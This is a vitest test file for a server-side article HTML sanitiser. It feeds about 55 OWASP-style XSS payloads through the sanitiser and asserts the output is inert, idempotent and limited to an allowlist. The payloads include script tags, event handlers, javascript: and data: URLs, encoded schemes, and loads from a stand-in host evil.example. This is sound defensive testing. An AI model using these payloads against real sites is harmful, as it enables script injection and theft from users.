import { describe, expect, it } from 'vitest';
import {
  ARTICLE_ATTRIBUTES,
  ARTICLE_TAGS,
  IMAGE_SCHEMES,
  LINK_SCHEMES,
} from '../../src/lib/schemas/article-html.ts';
import { articleSanitizer } from '../../src/lib/server/content/sanitize.ts';

const sanitizeArticleHtml = await articleSanitizer();

/** XSS vectors (OWASP XSS Filter Evasion cheat sheet and friends). */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=`x`onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="//evil.example/x.png" alt="protocol-relative">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">ok</a>',
  '<a href="https://ok.example" target="_blank" style="color:red">ok</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<h1 onmouseover="alert(1)">Title</h1><blockquote cite="javascript:alert(1)">q</blockquote>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<a href="https://ok.example/?q=&quot;&gt;&lt;script&gt;">entity in url</a>',
  '<img src="https://ok.example/a.png" alt="&quot; onerror=&quot;alert(1)">',
  '<ul><li><a href="mailto:press@example.org">mail</a></li></ul>',
  '<img src="/api/uploads/abc.png" alt="relative ok">',
];

/*
 * The policy restated here on purpose, independently of the allowlist module
 * (src/lib/schemas/article-html.ts): widening what articles may contain must
 * fail this test until someone updates it deliberately.
 */
const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'hr',
  'strong',
  'em',
  'u',
  's',
  'code',
  'pre',
  'h2',
  'h3',
  'h4',
  'ul',
  'ol',
  'li',
  'blockquote',
  'a',
  'img',
]);
const ALLOWED_ATTRS: Record<string, string[]> = {
  a: ['href', 'title'],
  img: ['src', 'alt', 'title', 'width', 'height'],
  ol: ['start', 'type'],
};

function decode(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/**
 * Structural check of the output: every '<' opens an allowlisted tag with
 * only allowlisted attributes (text '<' is escaped by the sanitiser), and
 * every URL is http(s), mailto (links) or relative, never protocol-relative.
 */
function assertInert(html: string): void {
  let rest = html;
  for (;;) {
    const i = rest.indexOf('<');
    if (i < 0) break;
    rest = rest.slice(i);
    const m = /^<(\/?)([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/.exec(rest);
    expect(m, `unexpected markup in ${html}`).not.toBeNull();
    const [whole, , tag, attrs] = m!;
    expect(ALLOWED_TAGS.has(tag!), `tag ${tag}`).toBe(true);
    for (const a of attrs!.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      const [, name, raw] = a as unknown as [string, string, string];
      expect(ALLOWED_ATTRS[tag!] ?? [], `${tag}[${name}]`).toContain(name);
      // A URL attribute: not protocol-relative, and its scheme (if any) one the attribute may have.
      const url = ['href', 'src'].includes(name)
        ? decode(raw)
            .replace(/\s/g, '')
            // eslint-disable-next-line no-control-regex -- browsers ignore control characters in URLs
            .replace(/[\u0000-\u001f]/g, '')
            .toLowerCase()
        : '';
      expect(url.startsWith('//'), url).toBe(false);
      const scheme = /^([a-z][a-z0-9+.-]*):/.exec(url)?.[1] ?? 'none';
      expect(
        name === 'href' ? ['http', 'https', 'mailto', 'none'] : ['http', 'https', 'none'],
        url,
      ).toContain(scheme);
    }
    rest = rest.slice(whole.length);
  }
  const lower = decode(html).toLowerCase();
  for (const bad of ['javascript:', 'vbscript:', 'data:', 'expression(']) {
    // Only as escaped text is fine; never inside an attribute.
    for (const attr of html.matchAll(/="([^"]*)"/g))
      expect(decode(attr[1]!).toLowerCase()).not.toContain(bad);
  }
  expect(lower.includes('<script') && /<script/i.test(html)).toBe(false);
}

describe('sanitizeArticleHtml', () => {
  it.each(VECTORS)('leaves nothing executable: %s', (input) => {
    const out = sanitizeArticleHtml(input);
    assertInert(out);
    expect(out).not.toMatch(
      /<(script|style|iframe|svg|math|object|embed|form|input|link|meta|base|textarea|template)/i,
    );
    // Event handler attribute names (values blanked: escaped text inside a value is inert).
    expect(out.replace(/="[^"]*"/g, '=""')).not.toMatch(/\son[a-z]+=/i);
  });

  it.each(VECTORS)('is idempotent: sanitising twice changes nothing: %s', (input) => {
    const once = sanitizeArticleHtml(input);
    expect(sanitizeArticleHtml(once)).toBe(once);
  });

  it('keeps the allowed formatting, links and images', () => {
    const html =
      '<h2>Plan</h2><p><strong>Bold</strong> <em>it</em> <a href="https://nola.gov" title="City">link</a> <a href="mailto:a@b.org">mail</a> <a href="/donate">donate</a></p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quote</blockquote><img src="https://cdn.example/a.jpg" alt="A" />';
    const out = sanitizeArticleHtml(html);
    expect(out).toContain('<h2>Plan</h2>');
    expect(out).toContain('<a href="https://nola.gov" title="City">link</a>');
    expect(out).toContain('<a href="mailto:a@b.org">mail</a>');
    expect(out).toContain('<a href="/donate">donate</a>');
    expect(out).toContain('<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quote</blockquote>');
    expect(out).toContain('<img src="https://cdn.example/a.jpg" alt="A">');
  });

  it('is the allowlist the editor is built from, and no wider', () => {
    expect(new Set(ARTICLE_TAGS)).toEqual(ALLOWED_TAGS);
    expect(Object.fromEntries(Object.entries(ARTICLE_ATTRIBUTES).map(([t, a]) => [t, [...a]]))).toEqual(
      ALLOWED_ATTRS,
    );
    expect([...LINK_SCHEMES]).toEqual(['http', 'https', 'mailto']);
    expect([...IMAGE_SCHEMES]).toEqual(['http', 'https']);
  });

  it('maps older tags with the same meaning onto the allowlist instead of losing them', () => {
    expect(
      sanitizeArticleHtml('<h1>A</h1><b>b</b> <i>i</i><h5>c</h5><h6>d</h6><del>x</del><ins>y</ins>'),
    ).toBe('<h2>A</h2><strong>b</strong> <em>i</em><h4>c</h4><h4>d</h4><s>x</s><u>y</u>');
    // Tags outside it keep their text: nothing a reader saw disappears.
    expect(
      sanitizeArticleHtml(
        '<p><mark>m</mark> <sub>2</sub> <small>s</small></p><figure><figcaption>c</figcaption></figure>',
      ),
    ).toBe('<p>m 2 s</p>c');
  });

  it('drops script and style content rather than keeping it as text', () => {
    expect(sanitizeArticleHtml('<p>a</p><script>alert(1)</script><style>p{}</style>')).toBe('<p>a</p>');
  });
});
